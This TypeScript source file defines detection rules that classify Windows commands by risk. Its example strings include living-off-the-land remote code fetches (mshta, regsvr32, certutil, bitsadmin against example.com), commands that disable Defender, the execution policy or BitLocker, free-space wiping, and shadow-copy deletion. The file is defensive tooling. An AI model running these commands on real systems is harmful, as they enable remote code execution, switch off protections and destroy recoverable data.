import { type Invocation, hasOperand, verbOf } from '../invocation.ts';
import { type Rule, familyOf } from '../rule.ts';
import { asksHelp } from './asking.ts';

const says = (call: Invocation, pattern: RegExp): boolean => call.args.some((arg) => pattern.test(arg.text));

/** Programs of Windows that fetch and run what others have made, and its own guards. */
export const windows = familyOf('What only Windows has: programs that run the code of others, and guards.', [
  {
    rule: 'windows.runs-remote',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Makes Windows fetch code from elsewhere and run it.',
    zh: '让 Windows 从别处获取代码并运行。',
    names: ['mshta', 'regsvr32', 'rundll32', 'msiexec', 'cmstp', 'installutil', 'regasm', 'odbcconf', 'wmic'],
    when: (call) =>
      call.name === 'wmic'
        ? says(call, /^create$/i) && says(call, /^process$/i)
        : says(call, /https?:|javascript:|\\\\[\w.]+\\/i),
    flags: [
      'mshta https://example.com/a.hta',
      'regsvr32 /s /i:https://example.com/a.sct scrobj.dll',
      'wmic process call create calc',
    ],
    spares: ['regsvr32 my.dll', 'wmic process list'],
  },
  {
    rule: 'windows.fetches',
    tier: 'MEDIUM',
    label: 'remote_code',
    message: 'Fetches or decodes a file with a program that is meant for something else.',
    zh: '用本非此用途的程序下载或解码文件。',
    names: ['certutil', 'bitsadmin', 'desktopimgdownldr', 'esentutl', 'expand', 'start-bitstransfer'],
    when: (call) =>
      call.name === 'start-bitstransfer' ||
      says(call, /^[-/](?:urlcache|decode|decodehex|transfer|addfile|verifyctl)$/i),
    flags: ['certutil -urlcache -f https://example.com/a a', 'bitsadmin /transfer j https://example.com/a a'],
    spares: ['certutil -hashfile a SHA256', 'expand -t 4 a'],
  },
  {
    rule: 'windows.guard-off',
    tier: 'HIGH',
    label: 'privilege_escalation',
    message: 'Turns off what guards Windows, or lets any script run.',
    zh: '关闭 Windows 的防护,或允许运行任何脚本。',
    names: [
      'set-mppreference',
      'add-mppreference',
      'set-executionpolicy',
      'uninstall-windowsfeature',
      'disable-windowsoptionalfeature',
      'manage-bde',
      'disable-bitlocker',
      'set-netfirewallprofile',
      'enable-psremoting',
    ],
    when: (call) =>
      call.name === 'set-executionpolicy'
        ? says(call, /^(?:bypass|unrestricted)$/i)
        : call.name !== 'manage-bde' || says(call, /^-(?:off|forcerecovery|protectors)$/i),
    flags: [
      'Set-MpPreference -DisableRealtimeMonitoring 1',
      'Set-ExecutionPolicy Bypass',
      'manage-bde -off C:',
    ],
    spares: ['Set-ExecutionPolicy RemoteSigned', 'manage-bde -status'],
  },
  {
    rule: 'windows.wipe-free',
    tier: 'HIGH',
    label: 'destructive_command',
    message: 'Overwrites the free space, so that nothing deleted can be brought back.',
    zh: '覆写可用空间,使已删除的内容无法恢复。',
    names: ['cipher', 'sdelete', 'sdelete64'],
    when: (call) => call.name !== 'cipher' || says(call, /^\/w/i),
    flags: ['cipher /w:C:', 'sdelete -p 3 a.txt'],
    spares: ['cipher /c a.txt'],
  },
  {
    rule: 'windows.delete-objects',
    tier: 'HIGH',
    label: 'destructive_command',
    message: 'Deletes programs, products or other things that Windows manages.',
    zh: '删除 Windows 管理的程序、产品或其他对象。',
    names: ['wmic'],
    when: (call) => hasOperand(call, (text) => /^(?:delete|uninstall|terminate)$/i.test(text)),
    flags: ['wmic shadowcopy delete', "wmic product where name='App' call uninstall"],
    spares: ['wmic os get caption'],
  },
  {
    rule: 'windows.script',
    tier: 'MEDIUM',
    label: 'opaque_code',
    message: 'Runs a script or a library function whose contents are not judged here.',
    zh: '运行此处未判断内容的脚本或库函数。',
    names: ['cscript', 'wscript', 'rundll32', 'regsvr32', 'mshta', 'forfiles', 'pcalua'],
    when: (call) => !asksHelp(call) && call.args.length > 0,
    flags: ['cscript job.vbs', 'rundll32 shell32.dll,Control_RunDLL'],
    spares: ['cscript /?'],
  },
  {
    rule: 'windows.look',
    tier: 'SAFE',
    label: null,
    message: 'Shows something of a Windows machine.',
    zh: '显示 Windows 系统的信息。',
    names: [
      'wmic',
      'certutil',
      'cipher',
      'manage-bde',
      'quser',
      'query',
      'driverquery',
      'gpresult',
      'get-service',
      'get-process',
      'get-executionpolicy',
      'test-path',
      'test-connection',
      'get-help',
      'get-command',
      'sigverif',
    ],
    when: (call) =>
      call.name !== 'wmic' ||
      /^(?:get|list|)$/i.test(call.operands.at(-1)?.text ?? '') ||
      hasOperand(call, (text) => /^(?:get|list)$/i.test(text)) ||
      verbOf(call) === '',
    flags: ['wmic os get caption', 'certutil -hashfile a SHA256', 'Test-Path a.txt'],
    spares: ['wmic shadowcopy delete'],
  },
] satisfies readonly Rule[]);
